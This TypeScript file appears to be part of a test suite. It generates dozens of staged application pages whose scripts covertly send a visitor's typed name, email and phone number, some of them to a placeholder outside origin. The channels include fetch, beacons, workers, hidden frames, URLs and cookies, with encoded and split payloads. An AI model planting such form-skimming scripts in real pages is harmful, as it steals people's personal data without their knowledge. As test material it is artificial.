import type { PageAttack, Stage } from '../attack';
import { namesOf, pairs } from '../pairs';
import type { Evidence } from '../stage/evidence';
import { bytesReceived, frozenIn } from '../stage/judging';
import { applicationPage } from './markup';

/*
 * A page that sends what was filled in, by itself. Scripts know `url`, `text` (the answers as they are written for this attack), `halves`
 * (the same in two parts) and `form`.
 */

/** Ways with a body. */
const bodies = {
  fetch: `fetch(url, { method: 'POST', mode: 'no-cors', body: text })`,
  'fetch-put': `fetch(url, { method: 'PUT', body: text })`,
  keepalive: `fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: text })`,
  xhr: `const ask = new XMLHttpRequest(); ask.open('POST', url); ask.send(text)`,
  beacon: `navigator.sendBeacon(url, text)`,
  'in-two-parts': `for (const half of halves) fetch(url, { method: 'POST', mode: 'no-cors', body: half })`,
  submit: `form.action = url; HTMLFormElement.prototype.submit.call(form)`,
  'request-submit': `form.action = url; form.requestSubmit()`,
  'click-on-button': `form.action = url; form.querySelector('button').click()`,
  'blank-tab': `form.action = url; form.target = '_blank'; HTMLFormElement.prototype.submit.call(form)`,
  'hidden-frame': `form.action = url; form.target = 'sink'; HTMLFormElement.prototype.submit.call(form)`,
  'form-of-frame': `const inner = document.querySelector('[name=sink]').contentDocument; inner.body.innerHTML =
    '<form method="post"><input name="d"></form>'; inner.forms[0].action = url; inner.forms[0].d.value = text; inner.forms[0].submit()`,
  worker: `new Worker('/worker.js').postMessage([url, text])`,
  'blob-worker': `new Worker(URL.createObjectURL(new Blob(["onmessage = ({ data: [url, body] }) => fetch(url, { method: 'POST', mode: 'no-cors', body })"]))).postMessage([new URL(url, location).href, text])`,
  'shared-worker': `new SharedWorker('/shared.js').port.postMessage([url, text])`,
  'service-worker': `navigator.serviceWorker.ready.then(({ active }) => active.postMessage([url, text]))`,
  'service-worker-later': `navigator.serviceWorker.ready.then(({ active }) => active.postMessage([url, text, 700]))`,
  'worker-of-a-worker': `new Worker('/nest.js').postMessage([url, text])`,
  'on-leaving': `addEventListener('pagehide', () => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: text })); location = '/help'`,
  'in-a-frame': `document.querySelector('[name=sink]').contentWindow.fetch(url, { method: 'POST', mode: 'no-cors', body: text })`,
  'broadcast-to-tab': `window.open('/listener'); setTimeout(() => new BroadcastChannel('b').postMessage([url, text]), 400)`,
  'through-opener': `window.open('/opened#' + encodeURIComponent(JSON.stringify([url, text])))`,
} as const;

/** Ways whose address carries the answers. */
const addresses = {
  navigation: `location = url + join + text`,
  replace: `location.replace(url + join + text)`,
  'meta-refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + url + join + text + '">')`,
  image: `new Image().src = url + join + text`,
  script: `document.head.append(Object.assign(document.createElement('script'), { src: url + join + text, onerror: () => {} }))`,
  style: `document.body.style.backgroundImage = 'url("' + url + join + text + '")'`,
  frame: `document.querySelector('[name=sink]').src = url + join + text`,
  'fetch-get': `fetch(url + join + text, { mode: 'no-cors' })`,
  'in-the-path': `fetch(url + '/' + text, { mode: 'no-cors' })`,
  'event-source': `new EventSource(url + join + text)`,
  prefetch: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url + join + text }))`,
  'open-tab': `window.open(url + join + text)`,
  'link-click': `Object.assign(document.createElement('a'), { href: url + join + text }).click()`,
  'form-get': `form.method = 'get'; form.action = url; HTMLFormElement.prototype.submit.call(form)`,
  header: `fetch(url, { headers: { 'x-d': btoa(unescape(encodeURIComponent(text))) } })`,
  cookie: `document.cookie = 'd=' + encodeURIComponent(text) + ';path=/'; fetch(url)`,
  referrer: `history.replaceState(null, '', '/?d=' + text); fetch(url, { referrerPolicy: 'unsafe-url', mode: 'no-cors' })`,
} as const;

/** How the answers are written. */
const writings = {
  form: `new URLSearchParams(answers).toString()`,
  json: `JSON.stringify({ person: Object.fromEntries(answers) })`,
  base64: `btoa(unescape(encodeURIComponent(JSON.stringify(Object.fromEntries(answers)))))`,
  percent: `encodeURIComponent(encodeURIComponent(JSON.stringify(Object.fromEntries(answers))))`,
  hex: `[...new TextEncoder().encode(JSON.stringify(Object.fromEntries(answers)))].map((one) => one.toString(16).padStart(2, '0')).join('')`,
} as const;

/** When it is sent. */
const moments = ['at-once', 'afterwards', 'while-the-user-is-asked'] as const;
type Moment = (typeof moments)[number];

/** Where to. */
const targets = {
  applications: '/applications/submit',
  people: '/api/v2/people',
  elsewhere: '{{other}}/collected',
} as const;

const withBody = pairs({
  way: namesOf(bodies),
  writing: ['form', 'json', 'base64'] as const,
  moment: moments,
  target: namesOf(targets),
});
const byAddress = pairs({
  way: namesOf(addresses),
  writing: ['percent', 'base64', 'hex'] as const,
  moment: moments,
  target: namesOf(targets),
});

/** When a page sends whose form is filled. */
const sendsAt: Record<Moment, string> = {
  'at-once': `on(['change', 'focusout', 'input'], (all) => all && once())`,
  afterwards: `on(['change'], (all) => all && setTimeout(once, LATER))`,
  'while-the-user-is-asked': `on(['change'], (all) => all && setTimeout(once, 900))`,
};

/** What workers and other tabs do with what they are told. */
const onMessage = `([url, body, later = 0]) => setTimeout(() => fetch(url, { method: 'POST', mode: 'no-cors', body }), later)`;

/** Pages that send what was filled in, whichever way, whenever, wherever to, however it is written. */
export const pageSends: PageAttack[] = [
  ...withBody.map(({ way, ...rest }, place) => attackBy(way, bodies[way], rest, laterMs(place))),
  ...byAddress.map(({ way, ...rest }, place) => attackBy(way, addresses[way], rest, laterMs(place))),
];

interface Rest {
  writing: keyof typeof writings;
  moment: Moment;
  target: keyof typeof targets;
}

/** `afterwards` is soon and late by turns. */
function laterMs(place: number): number {
  return place % 2 === 0 ? 1_500 : 5_000;
}

function attackBy(way: string, script: string, { writing, moment, target }: Rest, later: number): PageAttack {
  return {
    id: `page-sends/${way}/${writing}/${moment === 'afterwards' ? `after-${later}-ms` : moment}/to-${target}`,
    class: 'page-sends',
    goal: `the page sends what was filled in, by ${way}, ${moment}`,
    needsBrowser: true,
    stage: stageOf(script, writings[writing], [moment, later], targets[target]),
    judge,
  };
}

/** What goes over an open socket cannot be held: it is closed before there is an answer. */
export const socketSends: PageAttack[] = moments.map((moment) => ({
  id: `page-sends/socket/json/${moment}`,
  class: 'page-sends',
  goal: `the page sends what was filled in over a socket, ${moment}`,
  needsBrowser: true,
  stage: stageOf(
    `open.send(text)`,
    writings.json,
    [moment, laterMs(0)],
    targets.people,
    `const open = new WebSocket('ws://' + location.host + '/live');`,
  ),
  judge: (evidence) => ({
    submits: bytesReceived(evidence, ['site']) > 0 ? 1 : 0,
    frozen: frozenIn(evidence),
    told: evidence.told,
  }),
}));

/** Ways in which a part of the answers is carried. */
const carriers = {
  fetch: `fetch(url, { method: 'POST', body: part })`,
  json: `fetch(url, { method: 'POST', body: JSON.stringify({ [name]: part }) })`,
  image: `new Image().src = url + '?' + new URLSearchParams({ [name]: part })`,
  path: `fetch(url + '/' + encodeURIComponent(part))`,
  header: `fetch(url, { headers: { 'x-d': encodeURIComponent(part) } })`,
  beacon: `navigator.sendBeacon(url, part)`,
} as const;

/** How the answers are parted: lists of names and texts. */
const partings = {
  'by-field': `answers`,
  'by-field-turned-round': `[...answers].reverse()`,
  'in-pairs': `[answers.slice(0, 2), answers.slice(2)].map((pair) => ['d', JSON.stringify(pair)])`,
  'in-five': `Array.from({ length: 5 }, (_, at) => ['d', text.slice(at * text.length / 5, (at + 1) * text.length / 5)])`,
  'in-packed-pieces': `(text.match(/.{1,24}/g) ?? []).map((piece, at) => ['p' + at, btoa(piece)])`,
} as const;

/** To the form's own origin, under a name that says nothing. Each part less than a form, all of them one. */
export const partSends: PageAttack[] = pairs({
  carrier: namesOf(carriers),
  parting: namesOf(partings),
  moment: moments,
}).map(({ carrier, parting, moment }, place) => ({
  id: `page-sends/parts-by-${carrier}/${parting}/${moment}`,
  class: 'page-sends',
  goal: `the page sends what was filled in, ${parting}, by ${carrier}, ${moment}`,
  needsBrowser: true,
  stage: stageOf(
    `const parts = ${partings[parting]};
  const one = ([name, part]) => { ${carriers[carrier]}; };
  parts.forEach(one)`,
    writings.json,
    [moment, laterMs(place)],
    targets.people,
  ),
  judge,
}));

function judge(evidence: Evidence) {
  return {
    submits: bytesReceived(evidence, ['site']) > 0 ? 1 : 0,
    bytesElsewhere: bytesReceived(evidence, ['other', 'port', 'sub']),
    frozen: frozenIn(evidence),
  };
}

function stageOf(
  script: string,
  writing: string,
  [moment, later]: [Moment, number],
  target: string,
  before = '',
): Stage {
  const asks =
    moment === 'while-the-user-is-asked'
      ? '<p><label>Why Acme? <textarea name="why" required></textarea></label></p>'
      : '';
  return {
    run: { kind: 'fill', hesitatesMs: moment === 'while-the-user-is-asked' ? 1_800 : 0 },
    settleMs: moment === 'afterwards' ? later + 1_200 : 400,
    pages: {
      site: {
        '/': `${applicationPage(asks)}<iframe name="sink" hidden></iframe><script>
navigator.serviceWorker.register('/service-worker.js');
${before}
const form = document.forms[0];
const url = '${target}';
const join = '?d=';
let isOver = false;
const once = () => {
  if (isOver) return;
  isOver = true;
  const answers = [...new FormData(form)];
  const text = ${writing};
  const halves = [text.slice(0, text.length / 2), text.slice(text.length / 2)];
  ${script};
};
const on = (types, then) => types.forEach((type) => form.addEventListener(type, () => then(['first_name', 'last_name', 'email', 'phone'].every((name) => form[name].value !== ''))));
${sendsAt[moment].replace('LATER', String(later))};
</script>`,
        '/worker.js': `onmessage = ({ data }) => (${onMessage})(data)`,
        '/nest.js': `const inner = new Worker('/worker.js'); onmessage = ({ data }) => inner.postMessage(data)`,
        '/shared.js': `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => (${onMessage})(data); }`,
        '/service-worker.js': `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('message', (event) => event.waitUntil(new Promise((done) => (${onMessage})(event.data) && setTimeout(done, 2000))));`,
        '/listener': `<script>new BroadcastChannel('b').onmessage = ({ data }) => (${onMessage})(data)</script>`,
        '/opened': `<script>(${onMessage})(JSON.parse(decodeURIComponent(location.hash.slice(1))))</script>`,
        '/help': '<h1>Help</h1>',
      },
    },
  };
}
